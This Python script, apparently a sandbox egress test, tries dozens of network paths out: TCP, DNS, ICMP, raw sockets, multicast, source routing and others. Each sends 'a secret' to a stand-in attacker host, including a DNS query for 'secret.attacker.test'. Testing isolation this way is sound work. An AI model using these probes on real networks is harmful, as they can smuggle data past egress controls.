#!/usr/bin/python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""ways.py: prints the names of the ways out. ways.py [--when-told] NAME…: takes them one after the other.

Of each it prints, as it is over, a line `NAME STATUS what became of it`. The status is 0 whatever came of it, and 3 where this kernel, or the filter of
system calls, has no such socket for an ordinary user; it exits with the highest. Whether a packet left is for whoever stands outside to say. With
--when-told it waits for a line of its standard input before each, so that who counts packets can tell the ways apart.
"""
import errno
import os
import socket
import struct
import sys

HOST4, HOST6 = "203.0.113.66", "2001:db8:2::66"
DEVICE = "up0"
DATA = b"a secret\n\n"  # whole, so that a web server answers at once
MPTCP, UDPLITE, SCTP, DCCP, IPV6_RTHDR = 262, 136, 132, 33, 57


def question(name):
    labels = b"".join(bytes([len(x)]) + x.encode() for x in name.split("."))
    return struct.pack("!HHHHHH", 7, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", 1, 1)


def family(host):
    return socket.AF_INET6 if ":" in host else socket.AF_INET


def tcp(host, port, protocol=0, prepare=None, kind=socket.SOCK_STREAM):
    with socket.socket(family(host), kind, protocol) as s:
        s.settimeout(2)
        if prepare:
            prepare(s)
        s.connect(socket.getaddrinfo(host, port, family(host), socket.SOCK_STREAM)[0][4])
        s.sendall(DATA)
        return s.recv(100)


def udp(host, port, protocol=0, prepare=None, data=DATA):
    with socket.socket(family(host), socket.SOCK_DGRAM, protocol) as s:
        s.settimeout(0.3)
        if prepare:
            prepare(s)
        s.sendto(data, socket.getaddrinfo(host, port, family(host), socket.SOCK_DGRAM)[0][4])
        return s.recv(100)


def device(s):
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, DEVICE.encode())


def multicast(s):
    if s.family == socket.AF_INET:
        s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, struct.pack("=4s4sI", b"\0" * 4, b"\0" * 4, socket.if_nametoindex(DEVICE)))
    else:
        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_IF, socket.if_nametoindex(DEVICE))


def broadcast(s):
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)


def source_route(s):
    # Loose, by way of the attacker: type 131, length 7, pointer 4.
    s.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, bytes([131, 7, 4]) + socket.inet_aton(HOST4) + b"\0")


def routing_header(s):
    # Segment routing: the packet goes to the router, and carries where it shall end.
    segments = b"\0" * 16 + socket.inet_pton(socket.AF_INET6, "2001:db8:1::1")
    s.setsockopt(socket.IPPROTO_IPV6, IPV6_RTHDR, bytes([0, 4, 4, 1, 1, 0, 0, 0]) + segments)


def fast_open(host):
    with socket.socket(family(host), socket.SOCK_STREAM) as s:
        s.settimeout(2)
        s.sendto(DATA, 0x20000000, (host, 80))  # MSG_FASTOPEN
        return s.recv(100)


def mapped(kind):
    with socket.socket(socket.AF_INET6, kind) as s:
        s.settimeout(2 if kind == socket.SOCK_STREAM else 0.3)
        s.connect(("::ffff:" + HOST4, 80))
        s.send(DATA)
        return s.recv(100)


def ping(host):
    v6 = ":" in host
    with socket.socket(family(host), socket.SOCK_DGRAM, socket.IPPROTO_ICMPV6 if v6 else socket.IPPROTO_ICMP) as s:
        s.settimeout(0.3)
        s.sendto(bytes([128 if v6 else 8, 0, 0, 0, 0, 0, 0, 1]) + DATA, (host, 0))
        return s.recv(100)


def raw(kind, host):
    with socket.socket(family(host), socket.SOCK_RAW, kind) as s:
        s.sendto(DATA, (host, 0))
        return b"sent"


def packet():
    with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x800)) as s:
        s.sendto(DATA, (DEVICE, 0x800))
        return b"sent"


def vsock():
    with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM) as s:
        s.settimeout(1)
        s.connect((socket.VMADDR_CID_HOST, 80))
        return b"connected"


def gateway():
    """The link-local address of the other end of the link."""
    with open("/run/internet/link-local", encoding="ascii") as file:
        return file.read().strip() + "%" + DEVICE


WAYS = {
    "tcp": lambda: tcp(HOST4, 80), "tcp-6": lambda: tcp(HOST6, 80),
    "tcp-ssh": lambda: tcp(HOST4, 22), "tcp-high": lambda: tcp(HOST6, 61001),
    "quic": lambda: udp(HOST4, 443), "quic-6": lambda: udp(HOST6, 443),
    "dns": lambda: udp(HOST4, 53, data=question("secret.attacker.test")), "dns-6": lambda: udp(HOST6, 53, data=question("secret.attacker.test")),
    "dns-tcp": lambda: tcp(HOST4, 53), "dns-tcp-6": lambda: tcp(HOST6, 53),
    "mptcp": lambda: tcp(HOST4, 80, MPTCP), "mptcp-6": lambda: tcp(HOST6, 80, MPTCP),
    "fast-open": lambda: fast_open(HOST4), "fast-open-6": lambda: fast_open(HOST6),
    "mapped": lambda: mapped(socket.SOCK_STREAM), "mapped-udp": lambda: mapped(socket.SOCK_DGRAM),
    "udplite": lambda: udp(HOST4, 53, UDPLITE), "udplite-6": lambda: udp(HOST6, 53, UDPLITE),
    "sctp": lambda: tcp(HOST4, 80, SCTP), "dccp": lambda: tcp(HOST4, 80, DCCP, kind=6),
    "icmp": lambda: ping(HOST4), "icmp-6": lambda: ping(HOST6),
    "raw": lambda: raw(255, HOST4), "raw-icmp": lambda: raw(1, HOST4), "raw-6": lambda: raw(58, HOST6), "packet": packet, "vsock": vsock,
    "multicast": lambda: udp("224.0.0.251", 5353, prepare=multicast), "multicast-6": lambda: udp("ff0e::fb", 5353, prepare=multicast),
    "multicast-dns": lambda: udp("224.0.0.251", 53, prepare=multicast),
    "broadcast": lambda: udp("255.255.255.255", 67, prepare=lambda s: (broadcast(s), device(s))),
    "subnet-broadcast": lambda: udp("198.51.100.255", 9, prepare=broadcast),
    "link-local": lambda: tcp(gateway(), 80), "link-local-udp": lambda: udp(gateway(), 9), "link-local-dns": lambda: udp(gateway(), 53),
    "device": lambda: tcp(HOST4, 80, prepare=device), "device-6": lambda: tcp(HOST6, 80, prepare=device),
    "device-udp": lambda: udp(HOST4, 443, prepare=device), "device-dns": lambda: udp(HOST4, 53, prepare=device),
    "source-route": lambda: tcp("198.51.100.1", 80, prepare=source_route), "source-route-udp": lambda: udp("198.51.100.1", 53, prepare=source_route),
    "routing-header": lambda: tcp(HOST6, 80, prepare=routing_header), "routing-header-udp": lambda: udp(HOST6, 53, prepare=routing_header),
    "fragments": lambda: udp(HOST4, 443, data=DATA * 4000), "fragments-6": lambda: udp(HOST6, 53, data=DATA * 4000),
}


def take(name):
    """Takes a way, and returns its status and what became of it."""
    try:
        return 0, f"answered: {WAYS[name]()[:60]!r}"
    except OSError as err:
        status = 0
        if err.errno in (errno.EPROTONOSUPPORT, errno.ESOCKTNOSUPPORT, errno.EAFNOSUPPORT) or "socket()" in str(err):
            status = 3
        if err.errno in (errno.EPERM, errno.EACCES) and name.split("-")[0] in ("raw", "packet", "vsock", "source"):
            status = 3
        return status, f"error: {err}"


def main():
    names = sys.argv[1:]
    if not names:
        print("\n".join(WAYS))
        return 0
    told = names[0] == "--when-told"
    highest = 0
    for name in names[told:]:
        if told and not sys.stdin.readline():
            sys.exit(f"nobody said that {name} is to be taken")
        status, said = take(name)
        highest = max(highest, status)
        print(name, status, said, flush=True)
    return highest


if __name__ == "__main__":
    sys.stdout.reconfigure(errors="replace")
    os.umask(0o22)
    sys.exit(main())
